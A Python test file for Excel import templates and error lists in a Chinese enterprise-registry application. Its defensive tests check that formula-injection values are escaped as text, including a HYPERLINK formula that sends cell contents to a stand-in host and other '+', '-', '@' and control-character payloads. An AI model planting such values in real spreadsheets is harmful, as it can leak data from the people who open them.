"""Import templates built from a resource's column declaration."""

import io

import openpyxl
import pytest

from registry.models import IndustryChain, Zone
from registry.resources import EnterpriseResource
from registry.sheets.columns import Column
from registry.sheets.formats import write_xlsx
from registry.sheets.reader import read_rows
from registry.sheets.template import build_template
from registry.sheets.widgets import BoolCell, ChoiceCell, DateCell, DecimalCell, TextCell, UsccCell

COLUMNS = (
    Column("统一社会信用代码", "uscc", UsccCell(), required=True, meaning="18位代码"),
    Column("企业名称", "name", TextCell(), required=True, example="舟山海星船舶修造有限公司"),
    Column("工业总产值", "output_value", DecimalCell(), unit="万元", meaning="当月产值"),
    Column("成立日期", "established_on", DateCell()),
    Column("是否规上", "is_above_scale", BoolCell()),
    Column("企业规模", "size_class", ChoiceCell([("large", "大型"), ("small", "小型")])),
)


def workbook(data):
    return openpyxl.load_workbook(io.BytesIO(data))


class TemplateTests:
    def test_it_writes_a_bold_header_row_with_units_and_widths(self):
        sheet = workbook(build_template(COLUMNS)).worksheets[0]
        assert [cell.value for cell in sheet[1]] == ["统一社会信用代码", "企业名称", "工业总产值（万元）", "成立日期", "是否规上", "企业规模"]
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet["A1"].font.color.rgb.endswith("C00000")  # required columns in red
        assert sheet.column_dimensions["B"].width >= 20
        assert sheet.max_row == 1

    def test_it_describes_every_column_on_a_guide_sheet(self):
        guide = workbook(build_template(COLUMNS))["说明"]
        rows = [[cell.value for cell in row] for row in guide.iter_rows()]
        table = {row[0]: row for row in rows if row[0] in {column.header for column in COLUMNS}}
        assert table["统一社会信用代码"][1:3] == ["必填", "18位代码"]
        assert table["工业总产值"][3] == "万元"
        assert "2024-03-05" in table["成立日期"][4]
        assert table["企业规模"][5] == "大型、小型"
        assert table["企业名称"][6] == "舟山海星船舶修造有限公司"

    def test_it_offers_drop_downs_for_choices(self):
        sheet = workbook(build_template(COLUMNS)).worksheets[0]
        formulas = sorted(validation.formula1 for validation in sheet.data_validations.dataValidation)
        assert formulas == sorted(['"是,否"', '"大型,小型"'])

    def test_it_reads_back_as_an_empty_file_with_the_right_headers(self):
        sheet = read_rows(build_template(COLUMNS), "template.xlsx")
        assert sheet.headers[0] == "统一社会信用代码" and sheet.rows == []


@pytest.mark.django_db
class EnterpriseTemplateTests:
    def test_it_lists_counties_and_chains_from_reference_data(self):
        guide = workbook(build_template(EnterpriseResource.columns))["说明"]
        table = {row[0].value: [cell.value for cell in row] for row in guide.iter_rows() if row[0].value}
        assert table["县(区)"][5] == "定海区、普陀区、岱山县、嵊泗县"
        assert "船舶海工" in table["产业链"][5]
        assert table["行业代码"][5] in ("", None)  # too many classes to list


HOSTILE_NAMES = ('=HYPERLINK("http://x.cn/?"&A1,"点击")', "+1", "-2+3", "@SUM(1)", "\x01=1+1")


def every_cell(data):
    book = workbook(data)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.django_db
class TemplateFormulaTests:
    def test_it_writes_reference_names_that_look_like_formulas_as_text(self):
        Zone.objects.create(code="0-evil", name=HOSTILE_NAMES[0], sort_order=0)
        IndustryChain.objects.create(code="0-plus", name="+1", sort_order=0)
        cells = every_cell(build_template(EnterpriseResource.columns))
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert any(text.startswith("'" + HOSTILE_NAMES[0]) for text in texts)
        assert any(text.startswith("'+1") for text in texts)

    def test_it_writes_hostile_headers_meanings_and_examples_as_text(self):
        columns = [Column("企业名称", "name", TextCell(), meaning=name, example=name) for name in HOSTILE_NAMES]
        cells = every_cell(build_template(columns))
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert "'=1+1" in [cell.value for cell in cells]  # a control character in front does not hide the formula


class ErrorListFormulaTests:
    def test_it_writes_every_error_cell_as_text(self):
        rows = [(2, name, f"{name}：找不到该企业") for name in HOSTILE_NAMES]
        cells = every_cell(write_xlsx(("行号", "列", "错误原因"), rows, title="错误清单"))
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert [cell.value for cell in cells if cell.column == 2][1:] == ["'" + name.lstrip("\x01") for name in HOSTILE_NAMES]
